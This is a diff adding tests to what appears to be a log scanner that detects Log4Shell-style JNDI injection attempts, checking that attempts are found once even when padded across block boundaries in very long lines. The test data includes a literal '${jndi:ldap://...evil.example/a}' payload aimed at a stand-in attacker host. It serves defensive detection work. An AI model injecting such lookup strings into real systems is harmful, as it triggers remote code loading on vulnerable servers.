@@ -23,6 +23,7 @@ from hypothesis import strategies as st
 from clearinghouse.scan.logs import (
     BLOCK,
     CANDIDATE,
+    OVERLAP,
     LogLimits,
     LogScan,
     candidate_starts,
@@ -347,3 +348,72 @@ def test_padding_or_a_decoy_before_an_attempt_on_its_line_never_hides_it(
     assert [(f.line, f.payload) for f in scan.findings] == [(2, alone.findings[0].payload)]
     at = len(b'"GET /?q=') if decoy in UNCLOSED else len(before)
     assert scan.findings[0].offset == len(BENIGN) + at
+
+
+# --- lines longer than a block -----------------------------------------------------------------
+# A line with no newline in a whole block is scanned in blocks that overlap (``_resume_at``):
+# an attempt across a block's end used to be cut in two and missed, so padding a logged
+# field to a few MiB hid it.
+
+
+def _long_line(filler: bytes, attack: bytes, at: int, length: int) -> bytes:
+    """A benign line, then one of ``length`` bytes of ``filler`` with ``attack`` at ``at``
+    in the stream, then a benign line."""
+    pad = filler * (length // len(filler) + 1)
+    before = at - len(BENIGN)
+    return BENIGN + pad[:before] + attack + pad[: length - before] + b"\n" + BENIGN
+
+
+# Where blocks end or start again in such a line, in the stream (the first block ends after
+# the benign line): the old cut, every BLOCK bytes read, and where the next block starts
+# now, OVERLAP bytes before (or a little more, to a byte no candidate contains).
+EDGES = (BLOCK, 2 * BLOCK - OVERLAP, 2 * BLOCK)
+LENGTH = 2 * BLOCK + OVERLAP // 2
+AROUND_BLOCK_ENDS = sorted(
+    {edge + delta for edge in EDGES for delta in (-40, -37, -20, -5, -1, 0, 1, 30)}
+)
+
+
+@pytest.mark.parametrize("at", AROUND_BLOCK_ENDS)
+@pytest.mark.parametrize("filler", [b" ", b"A"])
+def test_an_attempt_across_a_block_end_of_a_long_line_is_found_once(at: int, filler: bytes) -> None:
+    data = _long_line(filler, CALLBACK, at, LENGTH)
+    scan = stream(data)
+    assert callbacks(scan) == [(2, "ldap", "cb.evil.example", 1389)]
+    assert scan.findings[0].offset == at
+    assert scan.lines == 3
+    assert scan.bytes == len(data)
+
+
+@settings(max_examples=25, database=None, deadline=None)
+@given(
+    seed=st.integers(0, 2**32 - 1),
+    encoding=st.sampled_from(ENCODINGS),
+    edge=st.sampled_from(EDGES),
+    delta=st.integers(-300, 50),
+    filler=st.sampled_from([b" ", b"A", b"%", b"&"]),
+)
+def test_any_encoded_attempt_across_a_block_end_of_a_long_line_is_found_once(
+    seed: int, encoding: str, edge: int, delta: int, filler: bytes
+) -> None:
+    rng = random.Random(seed)
+    text, host = payload(rng)
+    attack = encode(rng, text, encoding).encode()
+    data = _long_line(filler, attack, edge + delta, LENGTH)
+    scan = stream(data)
+    assert [(f.line, f.payload.host) for f in scan.findings] == [(2, host)]
+    assert scan.findings[0].offset == edge + delta
+
+
+def test_every_attempt_of_a_line_longer_than_two_blocks_is_found_once_in_linear_time() -> None:
+    attempts_on_line = [
+        b"${jndi:ldap://h%d.evil.example/a}%s" % (n, b" " * 97) for n in range(70_000)
+    ]
+    line = b"".join(attempts_on_line)
+    assert len(line) > 2 * BLOCK
+    started = time.perf_counter()
+    scan = stream(line + b"\n")
+    elapsed = time.perf_counter() - started
+    assert elapsed < 10.0, f"{elapsed:.2f} s"
+    assert [f.payload.host for f in scan.findings] == [f"h{n}.evil.example" for n in range(70_000)]
+    assert [f.offset for f in scan.findings] == [0, *accumulate(map(len, attempts_on_line[:-1]))]
